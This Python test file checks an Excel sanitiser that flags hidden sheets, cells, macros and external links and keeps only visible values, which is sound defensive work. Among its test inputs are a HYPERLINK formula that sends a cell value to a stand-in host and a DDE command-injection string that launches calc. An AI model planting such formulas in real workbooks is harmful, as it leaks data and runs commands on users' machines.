"""Excel workbooks: what shows is read as tables, what does not show is told, and visible values alone leave."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from hdh_jupyter.disclosure import default_policy
from hdh_jupyter.disclosure.documents import Document, Unreadable
from hdh_jupyter.disclosure.readers import read
from hdh_jupyter.disclosure.sanitisers import workbook as sanitiser

NIR = "295109912611193"
ROWS: tuple[tuple[Any, ...], ...] = (("région", "passages", "part"), ("Nord", 120, 0.25), ("Sud", 340, 0.75))


def built(fill: Callable[[xlsxwriter.Workbook, Any], object] = lambda book, sheet: None) -> bytes:
    """Make a workbook of one small table, and whatever `fill` adds."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Résultats")
        for number, row in enumerate(ROWS):
            sheet.write_row(number, 0, row)
        fill(book, sheet)
    return stream.getvalue()


def changed(content: bytes, parts: Mapping[str, Callable[[str], str] | str]) -> bytes:
    """Change or add parts of a package."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        left = dict(parts)
        for name in source.namelist():
            change = left.pop(name, None)
            text = source.read(name)
            target.writestr(name, change(text.decode()) if callable(change) else text)
        for name, added in left.items():
            target.writestr(name, str(added))
    return stream.getvalue()


def replaced(old: str, new: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        assert old in text
        return text.replace(old, new, 1)

    return change


def document(tmp_path: Path, content: bytes) -> Document:
    path = tmp_path / "t.xlsx"
    path.write_bytes(content)
    return read(path, "workbook", default_policy())


def rows_of(document: Document) -> list[tuple[tuple[str, ...], list[tuple[str, ...]]]]:
    return [
        (
            table.titles,
            [row for b in table.batches() for row in zip(*(c.to_pylist() for c in b.columns), strict=True)],
        )
        for table in document.tables
    ]


def told(document: Document) -> set[str]:
    return {hidden.what for hidden in document.hidden if hidden.suspicious}


def test_values_are_read_as_they_show(tmp_path: Path) -> None:
    def fill(book: xlsxwriter.Workbook, sheet: Any) -> None:
        sheet.write(1, 2, 0.25, book.add_format({"num_format": "0.0%"}))
        sheet.write(2, 2, 0.75, book.add_format({"num_format": "0%"}))
        sheet.write(0, 3, "jour")
        sheet.write_datetime(1, 3, datetime(2024, 3, 1), book.add_format({"num_format": "dd/mm/yyyy"}))
        sheet.write_formula(2, 3, "=B2+B3", None, 460)

    found = rows_of(document(tmp_path, built(fill)))
    titles = ("région", "passages", "part", "jour")
    assert found == [(titles, [("Nord", "120", "25 %", "2024-03-01"), ("Sud", "340", "75 %", "460")])]


def test_several_tables_of_a_sheet_are_told_apart(tmp_path: Path) -> None:
    def fill(book: xlsxwriter.Workbook, sheet: Any) -> None:
        sheet.merge_range(5, 0, 5, 2, "Tableau 2. Passages par sexe")
        for number, row in enumerate((("sexe", "passages"), ("F", 200), ("H", 260))):
            sheet.write_row(6 + number, 0, row)
        sheet.write(9, 0, "Source : fichier imaginaire")
        for number, row in enumerate((("âge", "n"), ("0-64", 300), ("65+", 160))):
            sheet.write_row(number, 5, row)

    assert [titles for titles, _ in rows_of(document(tmp_path, built(fill)))] == [
        ("région", "passages", "part"),
        ("âge", "n"),
        ("sexe", "passages"),
    ]


def test_titles_over_several_columns_are_joined(tmp_path: Path) -> None:
    def fill(book: xlsxwriter.Workbook, sheet: Any) -> None:
        page = book.add_worksheet("Deux")
        page.merge_range(0, 1, 0, 2, "2023")
        page.write_row(1, 0, ("région", "F", "H"))
        page.write_row(2, 0, ("Nord", 100, 200))

    assert rows_of(document(tmp_path, built(fill)))[1] == (("région", "2023 F", "2023 H"), [("Nord", "100", "200")])


HIDING: list[tuple[str, Callable[[xlsxwriter.Workbook, Any], object]]] = [
    ("sheet", lambda book, sheet: _other(book).hide()),
    ("sheet", lambda book, sheet: _other(book).very_hidden()),
    ("cells", lambda book, sheet: sheet.set_row(1, None, None, {"hidden": True})),
    ("cells", lambda book, sheet: sheet.set_row(1, 0)),
    ("cells", lambda book, sheet: sheet.set_column(1, 1, None, None, {"hidden": True})),
    ("cells", lambda book, sheet: sheet.set_column(1, 1, 0)),
    ("cells", lambda book, sheet: sheet.write(1, 1, 120, book.add_format({"num_format": ";;;"}))),
    ("cells", lambda book, sheet: sheet.write(1, 1, 120, book.add_format({"font_color": "#FFFFFF"}))),
    ("comment", lambda book, sheet: sheet.write_comment("A1", "donnée " * 4000)),
    ("name", lambda book, sheet: book.define_name("secret", "={1,2;3,4}")),
    ("external", lambda book, sheet: sheet.write_formula("D1", '=HYPERLINK("https://x.example/?"&B2)', None, 1)),
    ("external", lambda book, sheet: sheet.write_string("D1", "@SUM(1)*cmd|' /C calc'!A0")),
]


def _other(book: xlsxwriter.Workbook) -> Any:
    sheet = book.add_worksheet("Autre")
    for number, row in enumerate(ROWS):
        sheet.write_row(number, 0, row)
    return sheet


@pytest.mark.parametrize(("what", "fill"), [pytest.param(*case, id=f"{n:02}") for n, case in enumerate(HIDING)])
def test_what_does_not_show_is_told(
    what: str, fill: Callable[[xlsxwriter.Workbook, Any], object], tmp_path: Path
) -> None:
    assert what in told(document(tmp_path, built(fill)))


def test_white_titles_on_a_dark_ground_show(tmp_path: Path) -> None:
    def fill(book: xlsxwriter.Workbook, sheet: Any) -> None:
        sheet.write_row(0, 0, ROWS[0], book.add_format({"font_color": "#FFFFFF", "bg_color": "#1F4E78", "bold": True}))

    assert told(document(tmp_path, built(fill))) == set()


@pytest.mark.parametrize(
    ("part", "content", "what"),
    [
        ("xl/pivotCache/pivotCacheRecords1.xml", "<r><n v='1'/></r>", "pivot_records"),
        ("xl/externalLinks/externalLink1.xml", "<l><cell><v>4</v></cell></l>", "external_values"),
        ("xl/embeddings/oleObject1.bin", "x", "embedded_object"),
        ("xl/vbaProject.bin", "x", "embedded_object"),
        ("xl/model/item.data", "x", "embedded_object"),
        ("xl/revisions/revisionLog1.xml", "<r/>", "old_values"),
        ("xl/worksheets/sheet9.xml", "<worksheet/>", "sheet"),
        ("customXml/item1.xml", "<a>" + "x" * 6000 + "</a>", "metadata"),
    ],
)
def test_parts_that_hold_data_are_told(part: str, content: str, what: str, tmp_path: Path) -> None:
    assert what in told(document(tmp_path, changed(built(), {part: content})))


def test_an_identifier_in_any_part_is_among_the_texts(tmp_path: Path) -> None:
    for part in ("docProps/custom.xml", "xl/comments1.xml", "xl/drawings/drawing1.xml", "xl/connections.xml"):
        found = document(tmp_path, changed(built(), {part: f"<a>{NIR}</a>"}))
        assert any(NIR in "".join(text.chunks()) for text in found.texts), part


def test_texts_that_no_cell_shows_are_told(tmp_path: Path) -> None:
    added = "".join(f"<si><t>patient {n} {NIR}</t></si>" for n in range(100))
    content = changed(built(), {"xl/sharedStrings.xml": lambda text: text.replace("</sst>", added + "</sst>")})
    found = document(tmp_path, content)
    assert "unused_texts" in told(found)
    assert any(NIR in "".join(text.chunks()) for text in found.texts)


def test_a_chart_of_visible_cells_is_a_figure_and_one_of_others_is_told(tmp_path: Path) -> None:
    def fill(book: xlsxwriter.Workbook, sheet: Any) -> None:
        chart = book.add_chart({"type": "scatter"})
        chart.add_series({"categories": "=Résultats!$B$2:$B$3", "values": "=Résultats!$C$2:$C$3"})
        sheet.insert_chart("F1", chart)

    found = document(tmp_path, built(fill))
    assert [(s.mark, s.marks, s.y) for f in found.figures for s in f.series] == [("point", 2, (0.25, 0.75))]
    assert told(found) == set()
    elsewhere = changed(built(fill), {"xl/charts/chart1.xml": lambda text: text.replace("Résultats!", "Caché!")})
    assert "drawing" in told(document(tmp_path, elsewhere))


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "compound"),
        (b"r;n\n1;2\n", "mismatch"),
        (built()[:-40], "unreadable"),
        (
            changed(built(), {"xl/workbook.xml": lambda text: "<!DOCTYPE a [<!ENTITY b 'c'>]>" + text[55:]}),
            "unreadable",
        ),
        (changed(built(), {"XL/workbook.xml": "<workbook/>"}), "archive_twice"),
        (changed(built(), {"xl/worksheets/sheet1.xml": replaced('r="2"', 'r="1"')}), "unreadable"),
        (changed(built(), {"xl/worksheets/sheet1.xml": replaced('r="A2"', 'r="ZZZ2"')}), "unreadable"),
        (
            changed(built(), {"xl/worksheets/sheet1.xml": lambda t: re.sub(r'r="C3"', 'r="XFC3"', t)}),
            "too_many_columns",
        ),
    ],
)
def test_what_cannot_be_read_whole_is_refused(content: bytes, reason: str, tmp_path: Path) -> None:
    with pytest.raises(Unreadable) as refused:
        document(tmp_path, content)
    assert refused.value.key == reason


def test_visible_values_leave_and_nothing_else(tmp_path: Path) -> None:
    def fill(book: xlsxwriter.Workbook, sheet: Any) -> None:
        for _, hide in HIDING[:10]:
            if hide not in (HIDING[1][1],):
                hide(book, sheet)
        sheet.write_formula("E3", "=1+1", None, 2)
        sheet.write_string("F3", "=1+1")
        book.set_properties({"author": "Alice Martin"})

    content = built(fill)
    (tmp_path / "t.xlsx").write_bytes(content)
    written = []
    for name in ("a.xlsx", "b.xlsx"):
        assert sanitiser.sanitise(tmp_path / "t.xlsx", tmp_path / name, "workbook", default_policy()) == 1
        written.append((tmp_path / name).read_bytes())
    assert written[0] == written[1]
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        whole = b"".join(map(archive.read, archive.namelist()))
    for gone in (b"Alice", b"<f>", b"secret", b"hidden", b"Autre", b"comment"):
        assert gone not in whole
    clean = read(tmp_path / "a.xlsx", "workbook", default_policy())
    assert told(clean) == set()
    assert any("'=1+1" in row for _, rows in rows_of(clean) for row in rows)
    sanitiser.sanitise(tmp_path / "a.xlsx", tmp_path / "c.xlsx", "workbook", default_policy())
    assert (tmp_path / "c.xlsx").read_bytes() == written[0]


def test_a_workbook_that_may_have_macros_still_opens_as_one(tmp_path: Path) -> None:
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    content = changed(built(), {"[Content_Types].xml": replaced(plain, kind), "xl/vbaProject.bin": "x"})
    (tmp_path / "t.xlsm").write_bytes(content)
    sanitiser.sanitise(tmp_path / "t.xlsm", tmp_path / "a.xlsm", "workbook", default_policy())
    with zipfile.ZipFile(tmp_path / "a.xlsm") as archive:
        assert kind in archive.read("[Content_Types].xml").decode()
        assert "xl/vbaProject.bin" not in archive.namelist()
